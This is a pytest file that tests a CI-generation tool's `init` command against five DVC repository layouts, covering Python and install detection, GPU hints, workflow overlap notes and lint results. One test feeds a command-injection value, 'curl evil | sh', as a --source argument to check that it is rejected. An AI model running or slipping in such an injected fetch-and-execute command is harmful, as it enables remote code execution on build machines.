"""`init --yes` on the layouts of five public DVC repositories, rebuilt here as fixtures.

Each fixture copies what matters to init from a real repository (files, dvc.yaml, DVC
remotes, existing workflows): example-get-started, cml_dvc_case, dvc-checkpoints-mnist,
magnetic-tiles-defect and mlops-python-package. For each: ci-mlops installs in its own environment beside the
project's, and init finds the right install, test, Python and runner notes; every
generated workflow lints clean. docs/init.md records the same outcomes.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
import yaml
from conftest import git, run_cli

from ci_mlops import __version__
from tests.support.lint import lint

WF = ".github/workflows"

CML_PR = """\
name: CML Report
on: pull_request
jobs:
  run:
    runs-on: [ubuntu-latest]
    steps:
      - uses: iterative/setup-cml@v2
      - uses: actions/checkout@v3
      - name: Generate metrics report
        env:
          REPO_TOKEN: ${{ secrets.GITHUB_TOKEN }}
        run: |
          dvc pull eval
          dvc exp diff main --md > report.md
          cml comment create --publish --pr=false report.md
"""

CML_PUSH = """\
name: train-my-model
on: [push]
jobs:
  run:
    runs-on: [ubuntu-latest]
    steps:
      - uses: actions/checkout@v3
      - uses: actions/setup-python@v2
        with:
          python-version: '3.x'
      - name: cml
        run: |
          pip install -r requirements.txt
          dvc pull data
          dvc repro
          cml comment create --pr --publish report.md
"""

CML_RUNNER = """\
name: Run Experiment
on:
  workflow_dispatch: {}
  push:
    branches: ['exp*']
jobs:
  deploy-runner:
    runs-on: ubuntu-latest
    steps:
      - run: cml runner --cloud=aws --cloud-type=g4dn.xlarge --labels=cml-runner
  train-model:
    needs: deploy-runner
    runs-on: [self-hosted, cml-runner]
    container:
      image: iterativeai/cml:0-dvc2-base1
      options: --gpus all
    steps:
      - uses: actions/setup-python@v2
        with:
          python-version: "3.9"
      - run: |
          pip install -r requirements.txt
          dvc repro
          cml comment create --target=pr --update report.md
"""

DEPLOY = """\
name: Deploy-prod
on:
  push:
    tags: ["*#prod*"]
jobs:
  deploy-prod:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-python@v2
        with:
          python-version: "3.9"
      - run: pip install dvc[s3] && dvc pull models/model.pkl
"""

UV_LOCK = """\
version = 1
requires-python = ">=3.14"

[[package]]
name = "bikes"
version = "5.0.0"

[[package]]
name = "pytest"
version = "9.1.1"
"""

LAYOUTS: dict[str, dict[str, str]] = {
    "example-get-started": {
        "src/requirements.txt": "dvclive>=3.0\npandas\nscikit-learn>=1.3\n",
        ".devcontainer.json": '{"image": "mcr.microsoft.com/devcontainers/python:3.10"}\n',
        "src/prepare.py": "", "src/train.py": "", "src/evaluate.py": "",
        "dvc.yaml": """\
            stages:
              prepare:
                cmd: python src/prepare.py data/data.xml
                deps: [data/data.xml, src/prepare.py]
                outs: [data/prepared]
              train:
                cmd: python src/train.py data/prepared model.pkl
                deps: [data/prepared, src/train.py]
                outs: [model.pkl]
              evaluate:
                cmd: python src/evaluate.py model.pkl data/prepared
                deps: [model.pkl, src/evaluate.py]
                outs: [eval]
            metrics: [eval/metrics.json]
            """,
        ".dvc/config": "[core]\n    remote = public-s3\n['remote \"public-s3\"']\n    url = https://remote.dvc.org/get-started\n",
        f"{WF}/cml.yaml": CML_PR,
    },
    "cml_dvc_case": {
        "requirements.txt": "scikit-learn\npandas\nmatplotlib\n",
        "train.py": "", "get_data.py": "",
        "dvc.yaml": """\
            stages:
              mystage:
                cmd: python train.py
                deps: [data, train.py]
                metrics:
                - metrics.json:
                    cache: false
            """,
        ".dvc/config": "[core]\n    remote = myremote\n['remote \"myremote\"']\n    url = s3://dvc-public/remote/cml_example\n",
        f"{WF}/cml.yaml": CML_PUSH,
    },
    "dvc-checkpoints-mnist": {
        "requirements.txt": "dvc>=2.0.0a0\ndvclive\ntorch\ntorchvision>=0.9.1\n",
        "train.py": "",
        "dvc.yaml": """\
            stages:
              train:
                cmd: python train.py
                deps: [train.py]
                outs:
                - model.pt:
                    checkpoint: true
                live:
                  dvclive:
                    summary: true
            """,
        ".dvc/config": "",
    },
    "magnetic-tiles-defect": {
        "requirements.txt": "torch\ntorchvision\nfastai\ndvc[s3]\nfastapi[all]\ndvclive>=1.0\n",
        "src/stages/train.py": "", "src/stages/eval.py": "",
        # a script named like a test that calls a web API at import: not a test suite
        "api_test.py": "import requests\nresponse = requests.post('https://example.invalid/analyze')\n",
        "Dockerfile": "FROM python:3.9\n",
        "dvc.yaml": """\
            stages:
              train:
                cmd: python src/stages/train.py --config=params.yaml
                deps: [src/stages/train.py]
                outs: [models/model.pkl]
                metrics:
                - training/metrics.json:
                    cache: false
              evaluate:
                cmd: python src/stages/eval.py --config=params.yaml
                deps: [models/model.pkl, src/stages/eval.py]
                metrics:
                - evaluation/metrics.json:
                    cache: false
            """,
        ".dvc/config": "[core]\n    remote = storage\n['remote \"storage\"']\n    url = s3://sandbox-datasets/magnetic-tiles/\n",
        f"{WF}/1-run-experiments.yaml": CML_RUNNER,
        f"{WF}/3-deploy-prod.yaml": DEPLOY,
    },
    "mlops-python-package": {
        ".python-version": "3.14\n",
        "pyproject.toml": """\
            [project]
            name = "bikes"
            version = "5.0.0"
            requires-python = ">=3.14"
            dependencies = ["mlflow>=3.14.0", "scikit-learn>=1.9.0"]

            [dependency-groups]
            dev = ["pytest>=9.1.1", "ruff>=0.15.0"]

            [tool.pytest.ini_options]
            testpaths = ["tests"]

            [build-system]
            requires = ["uv_build>=0.9.0"]
            build-backend = "uv_build"
            """,
        "uv.lock": UV_LOCK,
        "src/bikes/__init__.py": "",
        "tests/core/test_models.py": "def test_model():\n    assert True\n",
        f"{WF}/cd.yml": "name: CD\non:\n  release:\n    types: [published]\njobs:\n  pages:\n    runs-on: ubuntu-latest\n"
                        "    steps:\n      - run: mise run docs\n",
    },
}

# What init must find in each: (python, install, test, train, project DVC step, tool extras)
EXPECTED = {
    "example-get-started": ("3.10", "pip install -r src/requirements.txt", None, "dvc repro",
                            "python -m pip install dvc", []),
    "cml_dvc_case": ("3.11", "pip install -r requirements.txt", None, "dvc repro",
                     "python -m pip install 'dvc[s3]'", ["dvc[s3]"]),
    "dvc-checkpoints-mnist": ("3.11", "pip install -r requirements.txt", None, "dvc repro", None, []),
    "magnetic-tiles-defect": ("3.9", "pip install -r requirements.txt", None, "dvc repro", None, ["dvc[s3]"]),
    "mlops-python-package": ("3.14", "pip install uv && uv sync --locked", "pytest -q", None, None, []),
}


def build(root: Path, files: dict[str, str]) -> Path:
    root.mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "layout")
    return root


@pytest.fixture(scope="module")
def initialised(tmp_path_factory) -> dict[str, tuple[Path, str, str]]:
    """Each layout after `ci-mlops init --yes`: (root, stdout, stderr)."""
    out = {}
    base = tmp_path_factory.mktemp("layouts")
    for name, files in LAYOUTS.items():
        root = build(base / name, files)
        proc = run_cli("init", str(root), "--yes")
        assert proc.returncode == 0, (name, proc.stderr)
        out[name] = (root, proc.stdout, proc.stderr)
    return out


def steps(root: Path, workflow: str = "ci-mlops-pr.yml", job: str = "train") -> dict[str, dict]:
    doc = yaml.safe_load((root / WF / workflow).read_text())
    return {s["name"]: s for s in doc["jobs"][job]["steps"]}


@pytest.mark.parametrize("name", list(LAYOUTS))
def test_detects_install_test_python_and_train(initialised, name):
    root, _, _ = initialised[name]
    python, install, test, train, project_dvc, extras = EXPECTED[name]
    config = yaml.safe_load((root / ".ci-mlops.yml").read_text())
    assert (config["python"], config["install"]) == (python, install)
    assert config["test"] == (test or False) and config["train"] == (train or False)
    pr = steps(root)
    assert pr["Set up Python"]["with"]["python-version"] == python
    assert pr["Install dependencies"]["run"] == install
    assert ("Test" in pr) == bool(test)
    assert (pr.get("Install DVC into the project's environment") or {}).get("run") == project_dvc


@pytest.mark.parametrize("name", list(LAYOUTS))
def test_ci_mlops_and_the_project_install_side_by_side(initialised, name):
    """ci-mlops: its own Python (not on PATH) and venv, only its command on PATH; the project: its Python."""
    root, _, _ = initialised[name]
    extras = EXPECTED[name][5]
    for workflow, job in (("ci-mlops-pr.yml", "train"), ("ci-mlops-release.yml", "release")):
        s = steps(root, workflow, job)
        names = list(s)
        tool_python = s["Set up Python for ci-mlops"]["with"]
        assert tool_python == {"python-version": "3.12", "update-environment": False}
        run = s["Install ci-mlops"]["run"]
        assert f"-m pip install --disable-pip-version-check ci-mlops=={__version__}" in run
        assert all(extra in run for extra in extras)
        assert 'echo "$RUNNER_TEMP/ci-mlops-bin" >> "$GITHUB_PATH"' in run
        # the project's own install runs first, in the project's Python
        if "Install dependencies" in s:
            assert names.index("Set up Python") < names.index("Install dependencies") < names.index("Install ci-mlops")


def test_uv_project_runs_in_its_own_venv(initialised):
    root, _, _ = initialised["mlops-python-package"]
    pr = steps(root)
    assert pr["Use the project's environment"]["run"] == 'echo "$GITHUB_WORKSPACE/.venv/bin" >> "$GITHUB_PATH"'
    assert "cache" not in pr["Set up Python"]["with"]  # no requirements file for setup-python's pip cache
    assert not (root / ".dvc").exists() and not (root / "dvc.yaml").exists()  # no pipeline, not asked: no dvc init


def test_requirements_used_by_stages_key_the_pip_cache(initialised):
    root, _, _ = initialised["example-get-started"]
    assert steps(root)["Set up Python"]["with"]["cache-dependency-path"] == "src/requirements.txt"


def test_a_script_named_like_a_test_is_not_a_suite(initialised):
    root, _, _ = initialised["magnetic-tiles-defect"]
    assert yaml.safe_load((root / ".ci-mlops.yml").read_text())["test"] is False


@pytest.mark.parametrize("name, reasons", [
    ("dvc-checkpoints-mnist", ["torch in requirements.txt"]),
    ("magnetic-tiles-defect", ["torch in requirements.txt", "runs a container with --gpus",
                               "starts a cloud runner with `cml runner` (g4dn.xlarge)"]),
])
def test_gpu_training_is_said_with_runner_and_timeout_suggestions(initialised, name, reasons):
    root, stdout, _ = initialised[name]
    note = next(line for line in stdout.splitlines() if "trains on GPUs?" in line)
    assert all(reason in note for reason in reasons), note
    config = (root / ".ci-mlops.yml").read_text()
    assert "# runner: [self-hosted, gpu]" in config and "# timeout_minutes: 360" in config
    assert yaml.safe_load(config)["runner"] == "ubuntu-latest"  # a suggestion, not a runner that may not exist


def test_no_gpu_note_without_gpu_frameworks(initialised):
    for name in ("example-get-started", "cml_dvc_case", "mlops-python-package"):
        assert "trains on GPUs?" not in initialised[name][1], name


def test_dvc2_pipeline_gets_a_warning(initialised):
    _, _, stderr = initialised["dvc-checkpoints-mnist"]
    assert "warning: dvc.yaml: stage 'train' has a 'live' section: a DVC 2 feature" in stderr
    assert "warning: dvc.yaml: stage 'train' has a checkpoint output" in stderr
    assert "DVC 2" not in initialised["example-get-started"][2]


@pytest.mark.parametrize("name, overlap", [
    ("example-get-started", (".github/workflows/cml.yaml already runs `cml comment` (on pull requests): "
                            "with ci-mlops that is two comments per PR.")),
    ("cml_dvc_case", (".github/workflows/cml.yaml already runs `cml comment`, `dvc repro` (on pushes): "
                     "with ci-mlops that is two trainings per push and two comments per PR.")),
    ("magnetic-tiles-defect", (".github/workflows/1-run-experiments.yaml already runs `cml comment`, `cml runner`, "
                              "`dvc repro` (on pushes): with ci-mlops that is two trainings per push and two comments per PR.")),
    ("magnetic-tiles-defect", (".github/workflows/3-deploy-prod.yaml already runs a tag-triggered deploy (on tags): "
                              "with ci-mlops that is two deploys per tag.")),
])
def test_existing_workflows_are_named_with_their_overlap(initialised, name, overlap):
    assert f"note: {overlap}" in initialised[name][1]


def test_cml_comments_get_replace_cml_and_files_stay_untouched(initialised):
    for name in LAYOUTS:
        root, _, _ = initialised[name]
        config = yaml.safe_load((root / ".ci-mlops.yml").read_text())
        posts_cml = name in ("example-get-started", "cml_dvc_case", "magnetic-tiles-defect")
        assert (config.get("comment") or {}).get("replace_cml", False) is posts_cml, name
        for rel, text in LAYOUTS[name].items():
            if rel.startswith(WF):
                assert (root / rel).read_text() == textwrap.dedent(text), rel
        assert git(root, "status", "--porcelain", "--", WF + "/cml.yaml", WF + "/cd.yml") == ""


@pytest.mark.lint
def test_every_generated_workflow_lints_clean(initialised, tmp_path):
    generated = [p for root, _, _ in initialised.values() for p in (root / WF).glob("ci-mlops-*.yml")]
    assert len(generated) == 3 * len(LAYOUTS)
    flat = []
    for path in generated:  # one folder per file name for the linters' report
        dest = tmp_path / path.parents[2].name / path.name
        dest.parent.mkdir(exist_ok=True)
        dest.write_text(path.read_text())
        flat.append(dest)
    assert lint(flat) == []


def test_source_option_writes_the_install_source(tmp_path):
    sha = "0123456789abcdef0123456789abcdef01234567"
    root = build(tmp_path / "repo", LAYOUTS["cml_dvc_case"])
    proc = run_cli("init", str(root), "--yes", "--source", f"git+https://github.com/ci-mlops/ci-mlops@{sha}")
    assert proc.returncode == 0, proc.stderr
    assert yaml.safe_load((root / ".ci-mlops.yml").read_text())["ci_mlops"]["source"].endswith(sha)
    run = steps(root)["Install ci-mlops"]["run"]
    assert f"git+https://github.com/ci-mlops/ci-mlops@{sha} 'dvc[s3]'" in run
    bad = run_cli("init", str(tmp_path / "repo"), "--yes", "--force", "--source", "ci-mlops; curl evil | sh")
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1 and "--source:" in bad.stderr


def test_reusable_mode_passes_the_source_and_the_projects_dvc(tmp_path):
    root = build(tmp_path / "repo", LAYOUTS["cml_dvc_case"])
    proc = run_cli("init", str(root), "--yes", "--mode", "reusable")
    assert proc.returncode == 0, proc.stderr
    job = yaml.safe_load((root / WF / "ci-mlops-pr.yml").read_text())["jobs"]["pr"]
    assert job["with"]["install"] == "pip install -r requirements.txt && python -m pip install 'dvc[s3]'"
    assert (job["with"]["ci-mlops-source"], job["with"]["ci-mlops-python"]) == (f"ci-mlops=={__version__}", "3.12")
    assert lint(sorted((root / WF).glob("ci-mlops-*.yml"))) == []


@pytest.mark.parametrize("name, note", [
    ("magnetic-tiles-defect", "the project's Python: 3.9 (from .github/workflows/1-run-experiments.yaml)"),
    ("example-get-started", "the project's Python: 3.10 (from .devcontainer.json (its python image))"),
    ("mlops-python-package", "the project's Python: 3.14 (from .python-version)"),
    ("dvc-checkpoints-mnist", "the project's Python: nothing declares one; 3.11 (set python: in .ci-mlops.yml)"),
    ("example-get-started", "install: `pip install -r src/requirements.txt` (from src/requirements.txt)"),
])
def test_the_plan_says_where_python_and_install_come_from(initialised, name, note):
    assert f"  note: {note}\n" in initialised[name][1]


def test_an_existing_config_is_not_second_guessed(tmp_path):
    root = build(tmp_path / "repo", {**LAYOUTS["cml_dvc_case"], ".ci-mlops.yml": "version: 1\npython: '3.10'\n"
                                     "install: pip install -r requirements.txt -c constraints.txt\n"})
    proc = run_cli("init", str(root), "--yes")
    assert proc.returncode == 0, proc.stderr
    assert "the project's Python" not in proc.stdout and "note: install:" not in proc.stdout
